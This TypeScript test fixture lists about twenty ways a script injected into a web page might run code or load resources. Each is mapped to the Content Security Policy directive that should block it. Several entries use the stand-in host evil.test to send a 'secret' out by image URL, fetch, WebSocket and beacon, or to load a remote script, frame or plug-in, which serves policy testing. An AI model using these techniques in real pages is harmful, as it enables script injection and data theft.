/** A way to run or load what is not the app's, from within its page. */
export interface CspAttack {
  /** The directive of the policy that must stop it. */
  readonly directive: string;
  /** Runs in the page; sets `window.ran` when it gets to run something. */
  readonly run: () => void;
}

/** As a script does that got into the page; not as a debugger, whose `eval` is always allowed. */
export const CSP_ATTACKS: Readonly<Record<string, CspAttack>> = {
  'an inline script': {
    directive: 'script-src-elem',
    run: () => {
      const script = document.createElement('script');
      script.textContent = 'window.ran = 1';
      document.head.append(script);
    },
  },
  'an inline handler': {
    directive: 'script-src-attr',
    run: () => {
      const place = document.createElement('div');
      place.innerHTML = '<img src="/missing.png" onerror="window.ran = 1">';
      document.body.append(place);
    },
  },
  'a link that is a script': {
    directive: 'script-src-elem',
    run: () => {
      const link = document.createElement('a');
      link.href = 'javascript:window.ran = 1';
      document.body.append(link);
      link.click();
    },
  },
  eval: {
    directive: 'script-src',
    run: () => {
      setTimeout(() => {
        (0, eval)('window.ran = 1');
      });
    },
  },
  'a function made of text': {
    directive: 'script-src',
    run: () => {
      setTimeout(() => {
        Reflect.apply(new Function('window.ran = 1'), undefined, []);
      });
    },
  },
  'WebAssembly that the page made': {
    directive: 'script-src',
    run: () => {
      setTimeout(() => {
        // The smallest module: its magic number and its version.
        new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));
        Reflect.set(window, 'ran', 1);
      });
    },
  },
  'a script of the web': {
    directive: 'script-src-elem',
    run: () => {
      const script = document.createElement('script');
      script.src = 'https://evil.test/a.js';
      document.head.append(script);
    },
  },
  'a script in a data URL': {
    directive: 'script-src-elem',
    run: () => {
      const script = document.createElement('script');
      script.src = 'data:text/javascript,window.ran=1';
      document.head.append(script);
    },
  },
  'a worker made of text': {
    directive: 'worker-src',
    run: () => {
      new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
    },
  },
  'a style sheet of the web': {
    directive: 'style-src-elem',
    run: () => {
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = 'https://evil.test/a.css';
      document.head.append(link);
    },
  },
  'an image of the web': {
    directive: 'img-src',
    run: () => {
      new Image().src = 'https://evil.test/a.png?secret';
    },
  },
  'a font of the web': {
    directive: 'font-src',
    run: () => {
      void new FontFace('a', 'url(https://evil.test/a.woff2)')
        .load()
        .catch(() => undefined);
    },
  },
  'a sound of the web': {
    directive: 'media-src',
    run: () => {
      new Audio('https://evil.test/a.mp3').load();
    },
  },
  'a request to the web': {
    directive: 'connect-src',
    run: () => {
      void fetch('https://evil.test/?secret').catch(() => undefined);
    },
  },
  'a socket to the web': {
    directive: 'connect-src',
    run: () => {
      new WebSocket('wss://evil.test/?secret');
    },
  },
  'a beacon to the web': {
    directive: 'connect-src',
    run: () => {
      navigator.sendBeacon('https://evil.test/', 'secret');
    },
  },
  'a frame of the web': {
    directive: 'frame-src',
    run: () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.test/';
      document.body.append(frame);
    },
  },
  'a plug-in': {
    directive: 'object-src',
    run: () => {
      const plugIn = document.createElement('object');
      plugIn.data = 'https://evil.test/a.swf';
      document.body.append(plugIn);
    },
  },
  'another base for what the page loads': {
    directive: 'base-uri',
    run: () => {
      const base = document.createElement('base');
      base.href = 'https://evil.test/';
      document.head.append(base);
    },
  },
  'a form that is sent away': {
    directive: 'form-action',
    run: () => {
      const form = document.createElement('form');
      form.action = 'https://evil.test/';
      document.body.append(form);
      form.submit();
    },
  },
};
